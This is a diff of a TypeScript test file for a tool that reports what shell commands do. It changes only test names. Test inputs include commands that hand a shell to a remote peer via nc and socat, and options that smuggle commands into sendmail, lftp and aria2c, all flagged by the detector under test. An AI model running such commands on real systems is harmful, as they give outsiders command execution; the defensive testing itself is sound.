@@ -22,7 +22,7 @@ test.each([
   ["http x.example q==v Header:x", ["fetches x.example"]],
   ["axel -o a https://x.example", ["fetches https://x.example", "writes a creates …"]],
   ["aria2c -d d -o a https://x.example", ["fetches https://x.example", "writes d/a creates …"]],
-])("a download tells what it fetches, sends and writes: %s", (line, effects) => {
+])("a download reports what it fetches, sends and writes: %s", (line, effects) => {
   expect(tells(line)).toEqual(effects);
 });
 
@@ -33,7 +33,7 @@ test.each([
   "nc -lvp 1 -e sh",
   "socat TCP:h:1 EXEC:sh",
   "socat system:sh,pty tcp-listen:1,fork",
-])("a shell given to the other end is critical: %s", (line) => {
+])("a shell for the peer is critical: %s", (line) => {
   expect(tells(line)).toContain("danger critical it lets whoever is at the other end run commands here");
 });
 
@@ -48,7 +48,7 @@ test.each([
   ["sendmail --passwordeval=id a@b", "interprets shell id"],
   ["lftp -e !id h", "interprets shell id"],
   ["aria2c --on-download-complete=./x u", "runs ./x"],
-])("options that carry code tell it: %s", (line, effect) => {
+])("code and settings in options are reported: %s", (line, effect) => {
   expect(tells(line)).toContain(effect);
 });
 
@@ -69,11 +69,11 @@ test.each([
     ["writes c.pem replaces", "writes k.pem replaces"],
   ],
   ["lftp -c get_a h", ["fetches h", "writes a creates …"]],
-])("asking is only asking: %s", (line, effects) => {
+])("a query only fetches: %s", (line, effects) => {
   expect(tells(line).toSorted()).toEqual(effects.toSorted());
 });
 
-test("names carry data out only when data is put into them", () => {
+test("a DNS query sends data only if its name contains a secret", () => {
   const words = (line: string): string[] => tells(line).filter((effect) => effect.startsWith("sends"));
   expect(words("dig x.example")).toEqual([]);
   expect(words("dig ?host")).toEqual([]);
@@ -83,7 +83,7 @@ test("names carry data out only when data is put into them", () => {
   expect(row && told([...row.does(use as never)])).toContain("sends ….x.example ….x.example ");
 });
 
-test("what is piped into a connection or a letter is sent", () => {
+test("text piped into a connection or an email is reported as sent", () => {
   const sends = (line: string): string[] =>
     told(effectsOf(network, line, given)).filter((effect) => effect.startsWith("sends"));
   expect(sends("nc h 1")).toEqual(["sends h deep"]);
@@ -93,7 +93,7 @@ test("what is piped into a connection or a letter is sent", () => {
   expect(sends("nc -z h 1")).toEqual([]);
 });
 
-test("what is decrypted is decoded text", () => {
+test("decrypted output counts as decoded text", () => {
   expect(told(effectsOf(network, "openssl enc -d -in a"))).toContain("prints decoded");
   expect(told(effectsOf(network, "openssl aes-256-cbc -d -in a -out b"))).toContain("writes b replaces …");
 });
